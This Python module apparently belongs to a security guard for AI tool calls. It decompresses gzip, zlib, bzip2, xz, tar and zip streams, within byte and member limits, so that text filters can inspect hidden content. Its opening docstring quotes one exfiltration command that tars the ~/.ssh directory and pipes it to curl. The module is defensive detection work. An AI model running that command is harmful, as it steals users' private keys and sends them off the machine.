"""What compressed streams and archives hold, for the normaliser's decoded views.

`tar czf - ~/.ssh | curl --data-binary @- …` sends private keys as gzip bytes; a tool
call can carry `H4sI…` (base64 of gzip) as well as base64 of text. The guards read text,
so a stream is opened here and what it holds becomes a view like any decoded run: gzip
(every member), zlib, bzip2, xz, and the members of a tar or zip archive (stored or
deflated entries), nested up to `MAX_LAYERS` deep (a tar in gzip, gzip in gzip).

Every read is bounded by the caller's `limit` of decoded bytes (a decompression bomb
stops there) and by `MAX_MEMBERS` archive members; whatever the bytes, nothing raises.
A member that is binary (more than 5% control bytes) is left out; an encrypted zip
entry or one of another method (bzip2, lzma inside zip) cannot be read, and is too.
zstd and brotli have no reader in the standard library and are not opened.
"""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator

MAX_LAYERS = 3
"""Compressions opened inside one another (tar.gz is two)."""
MAX_MEMBERS = 256
"""Archive members read, per archive."""

_GZIP = b"\x1f\x8b\x08"
_XZ = b"\xfd7zXZ\x00"
_BZIP2 = b"BZh"
_ZIP = b"PK\x03\x04"
_ZIP_STR = _ZIP.decode("latin-1")
_MAGIC = ((_GZIP.decode("latin-1"), "gzip"), (_XZ.decode("latin-1"), "xz"),
          ("BZh", "bzip2"), (_ZIP_STR, "zip"))
"""Magic numbers searched for anywhere in a text (a stream inside a multipart body)."""
_CONTROL = bytes(b for b in range(256) if not (b <= 0x08 or b in (0x0B, 0x0C)
                                                or 0x0E <= b <= 0x1F or b == 0x7F))


def packed(data: bytes) -> str | None:
    """The kind of compressed stream `data` starts with (gzip, zlib, bzip2, xz, zip),
    by its magic number; None for anything else."""
    if data.startswith(_GZIP):
        return "gzip"
    if data.startswith(_XZ):
        return "xz"
    if data.startswith(_ZIP):
        return "zip"
    if data.startswith(_BZIP2) and data[3:4].isdigit() and data[4:10] == b"1AY&SY":
        return "bzip2"
    if len(data) >= 2 and data[0] == 0x78 and (data[0] << 8 | data[1]) % 31 == 0 and (
            data[1] & 0x20) == 0:  # zlib: deflate, window ≤ 32K, check bits, no dictionary
        return "zlib"
    return None


def opens(data: bytes) -> bool:
    """Whether `members` reads `data`: a compressed stream or a tar archive."""
    return packed(data) is not None or (len(data) >= 512 and data[257:262] == b"ustar")


def _inflate(data: bytes, kind: str, limit: int) -> bytes | None:
    """The bytes of one compressed stream (`kind`), at most `limit` of them (a stream
    cut short gives what it held up to the cut); None when it does not decode."""
    try:
        if kind == "gzip":
            out = bytearray()
            rest = data
            while rest.startswith(_GZIP) and len(out) <= limit:
                d = zlib.decompressobj(16 + zlib.MAX_WBITS)
                out += d.decompress(rest, limit + 1 - len(out))
                if not d.eof:
                    break
                rest = d.unused_data
            return bytes(out[:limit]) if out else None
        if kind == "zlib":
            return zlib.decompressobj().decompress(data, limit) or None
        if kind == "bzip2":
            return bz2.BZ2Decompressor().decompress(data, limit) or None
        if kind == "xz":
            return lzma.LZMADecompressor(lzma.FORMAT_XZ).decompress(data, limit) or None
    except (zlib.error, OSError, EOFError, lzma.LZMAError, ValueError):
        return None
    return None


def textual(data: bytes) -> bool:
    """Whether `data` is text, not binary: at most 5% control bytes (the control
    characters `decoding.readable` counts against a text)."""
    return len(data.translate(None, _CONTROL)) * 20 <= len(data)


def _tar_members(data: bytes) -> Iterator[tuple[str, bytes]]:
    """(name, content) of each regular file of a tar archive, read header by header
    (ustar and GNU: a 512-byte header, the content padded to 512)."""
    at = 0
    for _ in range(MAX_MEMBERS):
        head = data[at:at + 512]
        if len(head) < 512 or not head.strip(b"\x00"):
            return
        name = head[:100].split(b"\x00", 1)[0].decode("utf-8", "replace")
        raw_size = head[124:136].split(b"\x00", 1)[0].strip()
        try:
            size = int(raw_size or b"0", 8)
        except ValueError:
            return
        kind = head[156:157]
        body = data[at + 512:at + 512 + size]
        if kind in (b"0", b"\x00", b"7"):
            yield name, body
        at += 512 + (size + 511) // 512 * 512


def _zip_members(data: bytes, limit: int) -> Iterator[tuple[str, bytes]]:
    """(name, content) of each stored or deflated entry of a zip archive, read from its
    local headers in order (no central directory needed: a zip cut short, or followed by
    a multipart boundary, is read as far as it goes)."""
    at = 0
    for _ in range(MAX_MEMBERS):
        if data[at:at + 4] != _ZIP or len(data) < at + 30:
            return
        flags, method = struct.unpack_from("<HH", data, at + 6)
        csize, = struct.unpack_from("<I", data, at + 18)
        nlen, xlen = struct.unpack_from("<HH", data, at + 26)
        name = data[at + 30:at + 30 + nlen].decode("utf-8", "replace")
        start = at + 30 + nlen + xlen
        body: bytes | None = None
        end = start + csize
        if flags & 1:
            pass  # encrypted: unreadable
        elif method == 8:
            d = zlib.decompressobj(-zlib.MAX_WBITS)
            try:
                body = d.decompress(data[start:start + csize] if csize and not flags & 8
                                    else data[start:], limit)
            except zlib.error:
                body = None
            if flags & 8 or not csize:  # sizes in a descriptor after the data
                end = len(data) - len(d.unused_data) if d.eof else len(data)
        elif method == 0 and csize:
            body = data[start:end]
        if body:
            yield name, body
        following = data.find(_ZIP, max(end, start), max(end, start) + 64 * 1024
                              if not flags & 8 else len(data))
        if following < 0:
            return
        at = following


class _Work:
    """What one `members` call may still spend, nested archives included: members
    visited and bytes decompressed (an archive of archives of binary members would
    otherwise decompress `limit` bytes for each of them)."""

    __slots__ = ("bytes", "members")

    def __init__(self, limit: int):
        self.members = MAX_MEMBERS
        self.bytes = 4 * limit


def members(data: bytes, limit: int, depth: int = 0, work: _Work | None = None
            ) -> tuple[str, list[tuple[str, bytes]]] | None:
    """What the compressed stream or archive `data` starts with holds: (how, [(name,
    text bytes)…]), how as `gzip`, `gzip+tar`, `zip`…; one member named "" for a stream
    that is no archive; binary members left out. At most `limit` bytes in all; None when
    `data` starts with no stream, or it holds no text."""
    work = work if work is not None else _Work(limit)
    hows: list[str] = []
    for _ in range(MAX_LAYERS - depth):
        kind = packed(data)
        if kind is None:
            if data[257:262] == b"ustar" and len(data) >= 512:
                kind = "tar"
            else:
                break
        hows.append(kind)
        if kind in ("tar", "zip"):
            found = _tar_members(data) if kind == "tar" else _zip_members(
                data, min(limit, work.bytes))
            out: list[tuple[str, bytes]] = []
            left = limit
            for name, body in found:
                work.members -= 1
                work.bytes -= len(body)
                if work.members < 0 or work.bytes < 0:
                    break
                # (a zip inside a zip counts as a layer: a zip that holds itself, a
                # quine, would be opened for ever)
                inner = _joined(members(body, left, depth + len(hows), work)) if packed(
                    body) else None
                body = inner[1] if inner is not None else body[:left]
                if body and textual(body):
                    out.append((name, body))
                    left -= len(body)
                if left <= 0:
                    break
            return ("+".join(hows), out) if out else None
        got = _inflate(data, kind, min(limit, work.bytes))
        if got is None:
            return None
        work.bytes -= len(got)
        data = got
    if not hows or not textual(data):
        return None
    return "+".join(hows), [("", data)]


def unpack(data: bytes, limit: int) -> tuple[str, bytes] | None:
    """`members` as one text: (how, bytes), an archive's members one after another,
    each after a line with its name."""
    return _joined(members(data, limit))


def _joined(got: tuple[str, list[tuple[str, bytes]]] | None) -> tuple[str, bytes] | None:
    if got is None:
        return None
    how, found = got
    if found[0][0] == "" and len(found) == 1:
        return how, found[0][1]
    return how, b"".join(name.encode("utf-8", "replace") + b"\n" + body + b"\n"
                         for name, body in found)


def packed_starts(text: str, attempts: int = 8) -> list[int]:
    """Where a compressed stream may start in `text` read byte for byte (Latin-1: a
    binary body the egress proxy read, an escaped JSON string): at a magic number
    anywhere (gzip, xz, bzip2, zip), or at the start (zlib, whose two bytes are too
    common elsewhere); at most `attempts`, in order."""
    starts: set[int] = set()
    for magic, _ in _MAGIC:
        at = text.find(magic)
        while at >= 0 and len(starts) < attempts:
            starts.add(at)
            at = text.find(magic, at + 1)
    if text[:1] == "x":
        starts.add(0)
    return sorted(starts)[:attempts]


def packed_runs(text: str, limit: int | Callable[[], int], attempts: int = 8
                ) -> Iterator[tuple[int, str, str]]:
    """(where, how, text) for each compressed stream of `packed_starts` that holds text,
    at most `limit` bytes each (a callable: asked before each, as a budget shrinks)."""
    zipped = False
    for at in packed_starts(text, attempts):
        if zipped and text.startswith(_ZIP_STR, at):
            continue  # the next member of the archive already read
        if packed(text[at:at + 16].encode("latin-1", "replace")) is None:
            continue  # (`x` that starts no zlib stream, a magic inside other bytes)
        most = limit() if callable(limit) else limit
        if most <= 0:
            return
        data = text[at:at + 4 * most].encode("latin-1", "replace")
        got = unpack(data, most)
        if got is not None:
            zipped = zipped or got[0].startswith("zip")
            yield at, got[0], got[1].decode("utf-8", "replace")
